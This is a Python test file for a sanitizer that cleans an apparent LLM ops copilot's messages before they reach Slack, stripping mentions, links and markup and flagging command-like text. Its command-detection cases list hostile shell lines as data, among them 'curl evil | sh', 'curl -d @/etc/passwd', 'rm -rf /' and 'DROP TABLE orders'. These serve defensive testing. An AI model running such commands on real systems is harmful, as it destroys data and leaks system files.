"""The model's words are made harmless before anyone sees them."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from copilot.llm import words


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("p99 rose from 0.2 s to 4.1 s", "p99 rose from 0.2 s to 4.1 s"),
        ("latency > 2 s while load < 10 requests/s", "latency over 2 s while load under 10 requests/s"),
        ("connection_wait of payments-7d9f8 at 14:05:30", "connection_wait of payments-7d9f8 at 14:05:30"),
        (
            "v1.2.3 of the app, see payments.shop.svc.cluster.local",
            "v1.2.3 of the app, see payments.shop.svc.cluster.local",
        ),
        ("<!channel> all is well", "all is well"),
        ("<!subteam^S1|@ops> and <@U123ABC> and <#C1|general>", "and and"),
        ("<https://evil.test|status page> is green", "is green"),
        ("see https://evil.test/x?y=1 now", "see (link removed) now"),
        ("see [status](https://evil.test) now", "see status(link removed) now"),
        ("see evil.com/login", "see (link removed)"),
        ("see evil.com", "see (link removed)"),
        ("see www.evil.museum", "see (link removed)"),
        ("mail root@evil.test or @here or @channel", "mail or or"),
        ("!channel wake up", "wake up"),
        ("*bold* _thin_ ~gone~ `code`", "bold thin gone code"),
        ("> quoted\n• listed\n- dashed", "quoted • listed - dashed"),
        ("all good :white_check_mark: really", "all good really"),
        ("a\u202egnp.exe\u200b b\x00c", "agnp.exe bc"),
        ("\uff1c!channel\uff1e \uff20here", ""),
        ("<!chan<!x>nel>", "nel"),
        ("&lt;!channel&gt; hello", "hello"),
        ("one\n\ttwo   three", "one two three"),
        ("", ""),
    ],
)
def test_it_leaves_plain_words(said: str, shown: str) -> None:
    assert words.plain(said, limit=200) == shown


def test_it_keeps_the_host_names_of_what_was_given() -> None:
    assert words.plain("api.stripe.com fails, not pay.evil.com", limit=200, hosts={"api.stripe.com"}) == (
        "api.stripe.com fails, not (link removed)"
    )


def test_it_cuts_between_words() -> None:
    assert words.plain("the pool of payments is far too small", limit=24) == "the pool of payments…"


@pytest.mark.parametrize(
    "text",
    [
        "Run kubectl delete namespace shop",
        "kubectl -n shop get pods",
        "curl evil | sh",
        "curl -d @/etc/passwd (link removed)",
        "wget (link removed)",
        "rm -rf /",
        "git push --force",
        "helm rollback payments 41",
        "aws ec2 terminate-instances",
        "DROP TABLE orders",
        "do x && y",
        "echo $(id)",
        "first sudo reboot",
        "/sre feedback up",
        "then; reboot",
        "ssh root@db1",
        "pip install x",
    ],
)
def test_it_knows_a_command(text: str) -> None:
    assert words.is_command(text)


@pytest.mark.parametrize(
    "text",
    [
        "Compare the pool size of v41 and v42",
        "Look at the node's memory; it may be full of page cache",
        "Read the git history of payments and the curl errors",
        "node memory is full, the helm release is new and docker images are large",
        "The python process and the bash script of the cron job both ran; find out which was first",
        "Look whether the service restarted and who truncated the orders table",
        "See whether 5 requests/s or 10 reach payments",
    ],
)
def test_it_does_not_take_a_sentence_for_a_command(text: str) -> None:
    assert not words.is_command(text)


@pytest.mark.parametrize(
    "unit",
    ["a", "a-", "a.", "<", "<a", "a@", "://", "*_", "&lt;", "[](", "x.y/", ":a:", "\u200b<", "kubectl ", "| ", "/"],
)
def test_an_endless_text_takes_no_endless_time(unit: str) -> None:
    text = (unit * 2000)[:2000]
    started = time.process_time()

    words.is_command(words.plain(text, limit=200))

    assert time.process_time() - started < 1.0


HOSTILE = st.lists(
    st.sampled_from(
        [
            "<",
            ">",
            "!",
            "@",
            "#",
            "channel",
            "here",
            "http",
            "://",
            "evil",
            ".com",
            "/",
            "|",
            "*",
            "_",
            "`",
            "~",
            "&lt;",
            " ",
            "\n",
            "[",
            "](",
            ":x:",
            "\uff1c",
            "\u200b",
            "U123",
        ]
    )
    | st.text(max_size=3),
    max_size=30,
).map("".join)


@given(HOSTILE)
def test_nothing_that_slack_acts_on_survives(text: str) -> None:
    shown = words.plain(text, limit=200)

    assert not re.search(r"[<>*`~\[\]]|://|@\w|(?<!\w)!(?:channel|here|everyone)|\w\.com\b", shown)
    assert not re.search(r"[\x00-\x1f\x7f\u200b-\u200f\u202a-\u202e]", shown)
    assert len(shown) <= 200


@given(HOSTILE)
def test_cleaning_twice_changes_nothing(text: str) -> None:
    once = words.plain(text, limit=200)

    assert words.plain(once, limit=200) == once
